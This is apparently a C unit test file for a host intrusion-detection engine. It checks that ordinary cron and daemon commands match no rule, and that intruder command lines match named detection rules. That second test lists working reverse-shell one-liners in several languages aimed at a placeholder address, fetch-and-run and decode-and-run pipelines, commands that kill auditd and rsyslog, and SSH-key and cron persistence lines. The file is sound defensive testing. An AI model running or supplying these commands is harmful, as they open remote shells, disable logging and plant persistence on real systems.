/* SPDX-License-Identifier: GPL-2.0-or-later */
/* Our own rules, by what Debian's jobs and daemons run and by what intruders do instead of it. */
#include "server/detect/rule.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>

#include <cmocka.h>
#include <stdlib.h>
#include <string.h>

struct line {
	const char *rule; /* NULL: none fits */
	const char *exe, *parent, *args;
};

static struct rules *builtin;

static int
setup(void **state)
{
	struct rules *r = rules_new();
	char why[300];

	(void)state;
	if (r == NULL || rules_add(r, rules_builtin, why, sizeof(why)) != 0)
		return -1;
	builtin = r;
	return 0;
}

static int
teardown(void **state)
{
	(void)state;
	rules_free(builtin);
	return 0;
}

/* Of a shell's line the third argument has spaces. */
static void
set_args(struct ds_event *ev, const char *args, char argv[300])
{
	size_t len = strlen(args), at = 0;

	assert_true(len < 300);
	memcpy(argv, args, len + 1);
	for (unsigned n = 0; at < len; at++) {
		if (argv[at] != ' ' || (n == 2 && strstr(args, "sh -c ") != NULL))
			continue;
		argv[at] = '\0';
		n++;
	}
	ds_event_set_str(ev, DS_STR_ARGS, argv, len);
}

static void
expect(const struct line *lines, size_t len)
{
	for (size_t i = 0; i < len; i++) {
		struct ds_event ev = { .kind = DS_EVENT_EXEC, .count = 1 };
		const struct rule *rule;
		bool found = false;
		char argv[300];
		size_t at = 0;

		set_args(&ev, lines[i].args, argv);
		ds_event_set_str(&ev, DS_STR_EXE, lines[i].exe, strlen(lines[i].exe));
		ds_event_set_str(&ev, DS_STR_PARENT_EXE, lines[i].parent, strlen(lines[i].parent));
		while ((rule = rules_match(builtin, &ev, &at)) != NULL) {
			if (lines[i].rule == NULL)
				fail_msg("%s fits %s", lines[i].args, rule->id);
			found |= strcmp(rule->id, lines[i].rule) == 0;
		}
		if (lines[i].rule != NULL && !found)
			fail_msg("%s does not fit %s", lines[i].args, lines[i].rule);
	}
}

static void
what_hosts_do_by_themselves_fits_no_rule(void **state)
{
	static const struct line lines[] = {
		{ NULL, "/usr/bin/systemctl", "/usr/bin/dash",
		    "systemctl kill -s HUP rsyslog.service" },
		{ NULL, "/usr/bin/dash", "/usr/sbin/cron",
		    "/bin/sh -c cd / && run-parts --report /etc/cron.hourly > /dev/null 2>&1" },
		{ NULL, "/usr/bin/cp", "/usr/bin/dash", "cp -p /etc/shadow shadow.bak" },
		{ NULL, "/usr/bin/dash", "/usr/lib/postgresql/15/bin/postgres",
		    "sh -c test ! -f /backup/000000010000000000000003 && cp "
		    "pg_wal/000000010000000000000003 /backup/" },
		{ NULL, "/usr/bin/dash", "/usr/sbin/varnishd",
		    "/bin/sh -c exec gcc -g -O2 -fpic -shared -o vgc.so vgc.c" },
		{ NULL, "/usr/bin/dash", "/usr/sbin/mariadbd",
		    "sh -c wsrep_sst_rsync --role donor --address 10.0.0.2:4444/rsync_sst" },
		{ NULL, "/usr/bin/dash", "/usr/sbin/cron",
		    "/bin/sh -c wc -l < /root/.ssh/authorized_keys > /var/tmp/keys" },
		{ NULL, "/usr/bin/dash", "/usr/sbin/cron",
		    "/bin/sh -c curl -fsS https://hc.example.org/ping/1 > /dev/null" },
		{ NULL, "/usr/bin/dash", "/usr/sbin/cron",
		    "/bin/sh -c TOKEN=$(curl -s http://169.254.169.254/x); echo $TOKEN" },
		{ NULL, "/usr/bin/dash", "/usr/sbin/cron",
		    "/bin/sh -c curl -s https://example.org/x | sha256sum > /var/tmp/sum" },
		{ NULL, "/usr/bin/dash", "/usr/sbin/cron",
		    "/bin/sh -c curl -s http://localhost/x | python3 -c 'import json'" },
		{ NULL, "/usr/bin/dash", "/usr/sbin/cron",
		    "/bin/sh -c cp /etc/crontab /root/.ssh/authorized_keys /var/backups/" },
		{ NULL, "/usr/bin/bash", "/usr/sbin/sshd",
		    "bash -c printf 'import socket,subprocess; s.connect(a); subprocess.run(b)' > x" },
		{ NULL, "/bin/busybox", "/bin/busybox", "sh -c /bin/healthcheck" },
		{ NULL, "/usr/bin/curl", "/usr/bin/dash",
		    "curl -s https://example.org/cloud/eval" },
	};

	(void)state;
	expect(lines, sizeof(lines) / sizeof(*lines));
}

static void
intruders_have_more_than_one_way(void **state)
{
	static const char *const server = "ds-server-shell", *const reverse = "ds-reverse-shell",
				 *const fetched = "ds-fetched-shell",
				 *const decoded = "ds-decoded-shell", *const off = "ds-defences",
				 *const key = "ds-key-dropped", *const job = "ds-job-dropped";
	static const struct line lines[] = {
		{ server, "/usr/bin/dash", "/usr/lib/postgresql/15/bin/postgres", "sh -c id" },
		{ server, "/usr/bin/busybox", "/usr/bin/redis-check-rdb", "busybox nc" },
		{ server, "/usr/bin/ruby3.1", "/usr/bin/mongod", "ruby x.rb" },
		{ server, "/usr/bin/zsh", "/usr/sbin/mysqld", "zsh" },
		{ reverse, "/usr/bin/python3.11", "/usr/bin/dash",
		    "python3 -c import socket,subprocess;s=socket.socket();s.connect(('192.0.2.1',1));"
		    "subprocess.call(['sh'],stdin=s)" },
		{ reverse, "/usr/bin/node", "/usr/bin/dash",
		    "node -e s=require('net').connect(1,'192.0.2.1');require('child_process').spawn('sh')" },
		{ reverse, "/usr/bin/perl", "/usr/bin/dash",
		    "perl -MIO::Socket -e $c=IO::Socket::INET->new('192.0.2.1:1');system$_ while<$c>" },
		{ reverse, "/usr/bin/ruby3.1", "/usr/bin/dash",
		    "ruby -rsocket -e c=TCPSocket.new('192.0.2.1',1);IO.popen(c.gets)" },
		{ reverse, "/usr/bin/gawk", "/usr/bin/dash",
		    "gawk BEGIN{s=\"/inet/tcp/0/192.0.2.1/1\";while((s|&getline)>0)system($0)}" },
		{ reverse, "/usr/bin/dash", "/usr/bin/dash",
		    "sh -c mkfifo /tmp/s; sh -i </tmp/s 2>&1 | openssl s_client -connect h:1 >/tmp/s" },
		{ reverse, "/usr/bin/dash", "/usr/bin/dash",
		    "sh -c telnet 192.0.2.1 1 | sh | telnet 192.0.2.1 2" },
		{ reverse, "/usr/bin/ncat", "/usr/bin/dash",
		    "ncat --ssl --sh-exec id 192.0.2.1 443" },
		{ fetched, "/usr/bin/dash", "/usr/sbin/cron",
		    "/bin/sh -c bash <(curl -s http://192.0.2.1/x)" },
		{ fetched, "/usr/bin/dash", "/usr/sbin/cron",
		    "/bin/sh -c wget -qO- http://192.0.2.1/x|zsh" },
		{ fetched, "/usr/bin/dash", "/usr/sbin/cron",
		    "/bin/sh -c eval \"$(curl -s http://192.0.2.1/x)\"" },
		{ decoded, "/usr/bin/dash", "/usr/sbin/cron",
		    "/bin/sh -c echo aWQK | base32 -d | python3" },
		{ decoded, "/usr/bin/dash", "/usr/sbin/cron",
		    "/bin/sh -c echo aWQK | openssl base64 -d | perl" },
		{ off, "/usr/bin/pkill", "/usr/bin/dash", "pkill -9 daemonsec" },
		{ off, "/usr/bin/systemctl", "/usr/bin/dash", "systemctl kill -s KILL auditd" },
		{ off, "/usr/bin/systemctl", "/usr/bin/dash", "systemctl disable --now rsyslog" },
		{ key, "/usr/bin/dash", "/usr/sbin/cron",
		    "/bin/sh -c echo ssh-rsa A>>/root/.ssh/authorized_keys" },
		{ key, "/usr/bin/tee", "/usr/bin/dash", "tee -a /root/.ssh/authorized_keys" },
		{ job, "/usr/bin/dash", "/usr/sbin/cron",
		    "/bin/sh -c echo '* * * * * root id' > /etc/cron.d/x" },
		{ job, "/usr/bin/cp", "/usr/bin/dash", "cp /tmp/x /etc/cron.hourly/x" },
		{ job, "/usr/bin/dash", "/usr/sbin/cron",
		    "/bin/sh -c (crontab -l; echo '* * * * * id') | crontab -" },
	};

	(void)state;
	expect(lines, sizeof(lines) / sizeof(*lines));
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(what_hosts_do_by_themselves_fits_no_rule),
		cmocka_unit_test(intruders_have_more_than_one_way),
	};

	return cmocka_run_group_tests(tests, setup, teardown);
}
